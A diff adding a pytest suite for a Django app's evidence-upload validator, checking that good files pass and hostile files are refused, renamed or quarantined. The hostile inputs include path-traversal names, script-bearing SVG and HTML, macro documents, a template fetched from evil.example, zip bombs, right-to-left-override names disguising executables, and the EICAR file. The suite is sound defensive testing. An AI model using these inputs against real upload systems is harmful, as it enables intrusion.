@@ -1,0 +1,182 @@
+"""Which files are evidence: every good kind, and every hostile file as the table in docs/evidence.md says."""
+
+import re
+from pathlib import Path
+
+import pytest
+from django.conf import settings
+from django.core.files.base import ContentFile
+from django.utils import translation
+
+from cycles.workflow import Refused
+from submissions import evidence, kinds, tasks
+from submissions.models import Answer, Document
+from tests.factories import build
+from tests.submissions import documents
+from tests.submissions.conftest import EICAR
+from tests.submissions.documents import archive, docx, opendocument, pdf, picture, pptx, relationship, xlsx
+
+pytestmark = pytest.mark.django_db
+
+GOOD = {
+    "گزارش سالانه.pdf": pdf(),
+    "IMAGE.PNG": picture(),
+    "a.jpg": picture("JPEG"),
+    "a.jpeg": picture("JPEG"),
+    "a.docx": docx(("word/media/image1.png", picture())),
+    "chart.docx": docx(("word/embeddings/Microsoft_Excel_Sheet.xlsx", xlsx())),
+    "links.docx": docx(("word/_rels/document.xml.rels", relationship("hyperlink", "https://example.org"))),
+    "a.xlsx": xlsx(),
+    "other.xlsx": xlsx(("xl/externalLinks/_rels/externalLink1.xml.rels", relationship("externalLinkPath", "b.xlsx"))),
+    "a.pptx": pptx(),
+    "a.ods": opendocument("spreadsheet"),
+    "a.odt": opendocument("text"),
+    "a.csv": "سنجه,عدد\nآب,۲۰\n".encode(),
+    "utf16.txt": "گزارش".encode("utf-16"),
+    "windows.txt": "گزارش".encode("cp1256"),
+    "a<b.txt": b"if a < b and c > d then",
+}
+
+BOMB = ("word/media/image1.png", b"\0" * (300 * 2**20))
+SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
+HTML = b"<!doctype html><script>alert(1)</script>"
+MACRO_TYPES = documents.TYPES.replace("application/xml", "application/vnd.ms-word.document.macroEnabled.main+xml")
+MANY = [(f"word/media/{n}.png", b"") for n in range(kinds.MOST_PARTS)]
+LARGE = [(f"word/media/{n}.bin", b"\0\1\2\3" * 2**18) for n in range(3)]
+
+
+def long_list(content: bytes) -> bytes:
+    """A document that says its list of parts is 100 MB long."""
+    return content[:-10] + (100 * 2**20).to_bytes(4, "little") + content[-6:]
+
+
+LONG = "گزارش " * 60 + ".pdf"
+
+# what stands in the table: the file's name, its content, and either words of the refusal or the name it is kept under
+HOSTILE = {
+    "a program named as a PDF": ("proof.pdf", b"MZ\x90\0 program", "not what its name says"),
+    "a program": ("run.exe", b"MZ\x90\0", "“run.exe” cannot be accepted. Files may be"),
+    "a PDF named as a picture": ("proof.png", pdf(), "not what its name says"),
+    "a name with a path": ("../../etc/passwd.pdf", pdf(), "passwd.pdf"),
+    "a name with a Windows path": ("C:\\Users\\me\\proof.pdf", pdf(), "proof.pdf"),
+    "an SVG with script": ("logo.svg", SVG, "“logo.svg” cannot be accepted. Files may be"),
+    "an SVG named as a picture": ("logo.png", SVG, "not what its name says"),
+    "an SVG named as text": ("logo.txt", SVG, "a web page or a drawing"),
+    "an HTML page with script": ("page.html", HTML, "“page.html” cannot be accepted. Files may be"),
+    "an HTML page named as a table": ("page.csv", b"\n\n" + HTML, "a web page or a drawing"),
+    "a document with macros": ("report.docm", docx(("word/vbaProject.bin", b"x")), "holds a program"),
+    "a document with macros under another ending": ("a.docx", docx(("word/vbaProject.bin", b"x")), "holds a program"),
+    "a document that names macros in its list of types": ("a.docx", docx(types=MACRO_TYPES), "holds a program"),
+    "a document with a password": ("a.docx", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600, "encrypted"),
+    "a PDF with a password": ("a.pdf", pdf(more="/Encrypt 9 0 R "), "protected with a password"),
+    "a document that fetches its template": (
+        "a.docx",
+        docx(("word/_rels/settings.xml.rels", relationship("attachedTemplate", "https://evil.example/t.dotm"))),
+        "fetches something from outside",
+    ),
+    "a document with an embedded object": (
+        "a.docx", docx(("word/embeddings/oleObject1.bin", b"x")), "another file inside",
+    ),
+    "a document with an archive inside": ("a.docx", docx(("word/media/a.zip", archive(("x", "y")))), "file inside"),
+    "a zip bomb": ("a.docx", docx(BOMB), "far more than a document holds"),
+    "a zip bomb of many parts": ("a.docx", docx(*MANY), "more than 5,000 parts"),
+    "a zip bomb whose list of parts is long": ("a.docx", long_list(docx()), "more than 5,000 parts"),
+    "a zip bomb that is large": ("a.docx", docx(*LARGE), "far more than a document holds"),
+    "a zip bomb within a document": ("a.docx", docx(("word/embeddings/a.xlsx", xlsx(BOMB))), "far more than"),
+    "an archive that is broken": ("a.docx", docx()[:-30], "cannot be unpacked"),
+    "an archive named as a document": ("a.docx", archive(("x.txt", "y")), "not what its name says"),
+    "an empty file": ("a.pdf", b"", "“a.pdf” is empty"),
+    "a very long name": (LONG, pdf(), LONG[:116].strip() + ".pdf"),
+    "a right-to-left override that hides a program": ("r\u202efdp.exe", b"MZ", "“rfdp.exe” cannot be accepted"),
+    "a right-to-left override in a good name": ("\u2067گزارش\u202exslx\u200f.pdf", pdf(), "گزارشxslx.pdf"),
+    "control characters in a name": ("a\0b\r\nc\x1b.pdf", pdf(), "ab c.pdf"),
+    "the EICAR test file": ("a.txt", EICAR, "a.txt"),
+    "the EICAR test file within a document": ("a.docx", docx(("word/media/a.txt", EICAR)), "a.docx"),
+    "a picture of a thousand million pixels": ("a.png", documents.huge_picture(), "a.png"),
+    "a PDF that is broken": ("a.pdf", b"%PDF-1.7 and no more", "a.pdf"),
+}  # fmt: skip
+
+
+UNDRAWN = {"a picture of a thousand million pixels", "a PDF that is broken"}
+
+
+def table() -> dict[str, str]:
+    """The outcome of each file, as the page of the docs has it."""
+    text = (Path(settings.BASE_DIR) / "docs/evidence.md").read_text()
+    section = text.split("## Hostile files")[1].split("\n## ")[0]
+    return dict(re.findall(r"^\| ([^|]+?) \| (refused|kept|locked away) \|", section, flags=re.M))
+
+
+def test_the_docs_name_every_hostile_file_of_this_test():
+    assert set(table()) == set(HOSTILE)
+
+
+@pytest.mark.parametrize("label", HOSTILE)
+def test_a_hostile_file_is_handled_as_the_docs_say(label, scanner, monkeypatch):
+    monkeypatch.setattr(kinds, "MOST_UNPACKED", 2 * 2**20 if "large" in label else kinds.MOST_UNPACKED)
+    world = build("begun")
+    line = Answer.objects.select_related("measure", "submission").get(submission=world.submission, measure__code="G1-1")
+    name, content, said = HOSTILE[label]
+    outcome = table()[label]
+    upload = ContentFile(content)
+    upload.name = name
+
+    with translation.override("en"):
+        if outcome == "refused":
+            with pytest.raises(Refused, match=re.escape(said)):
+                evidence.attach(line, upload=upload, by=world.staff, at=world.at)
+            assert not Document.objects.exists()
+            return
+        shown = evidence.attach(line, upload=upload, by=world.staff, at=world.at)
+    tasks.scan.apply(kwargs={"document": shown.document_id}, throw=True)
+
+    document = Document.objects.get()
+    assert document.name == said
+    assert document.state == ("infected" if outcome == "locked away" else "clean")
+    assert document.is_open == (outcome == "kept")
+    assert bool(document.pages) == (outcome == "kept" and label not in UNDRAWN)
+
+
+@pytest.mark.parametrize("name", GOOD)
+def test_what_people_upload_is_accepted(name):
+    file = ContentFile(GOOD[name])
+
+    with translation.override("en"):
+        assert kinds.why_not_named(kinds.clean_name(name), file.size, 2**20) == ""
+        assert kinds.why_not_content(name, file) == ""
+
+
+@pytest.mark.parametrize(
+    ("raw", "kept"),
+    (
+        ("می\u200cشود.pdf", "می\u200cشود.pdf"),
+        (" . ", "file"),
+        (".pdf", "file.pdf"),
+        ("a  b\t.pdf", "a b.pdf"),
+        ("x." + "y" * 400, "x." + "y" * 10),
+        ("a/b\\", "file"),
+        ("cafe\u0301.txt", "caf\u00e9.txt"),
+    ),
+)
+def test_names_are_made_fit_to_be_shown(raw, kept):
+    assert kinds.clean_name(raw) == kept
+
+
+@pytest.mark.parametrize("size", (1, kinds.HEAD, 3 * kinds.HEAD))
+def test_text_with_a_zero_byte_anywhere_is_no_text(size, tmp_path):
+    place = tmp_path / "a.txt"
+    place.write_bytes(b"x" * size + b"\0" + b"x" * size)
+
+    with place.open("rb") as content, translation.override("en"):
+        file = evidence.File(content, name="a.txt")
+        assert "not text" in kinds.why_not_content("a.txt", file)
+        assert "not text" in kinds.why_not_content("a.txt", ContentFile(place.read_bytes()))
+
+
+def test_a_document_of_another_kind_than_its_ending_is_refused():
+    with translation.override("en"):
+        for name, content in (("a.xlsx", docx()), ("a.ods", opendocument("text")), ("a.odt", docx())):
+            assert "not what its name says" in kinds.why_not_content(name, ContentFile(content))
+        for name, part in (("a.odt", "Basic/Standard/Module1.xml"), ("a.xlsx", "xl/macrosheets/sheet1.xml")):
+            content = opendocument("text", (part, "x")) if name == "a.odt" else xlsx((part, "x"))
+            assert "holds a program" in kinds.why_not_content(name, ContentFile(content))
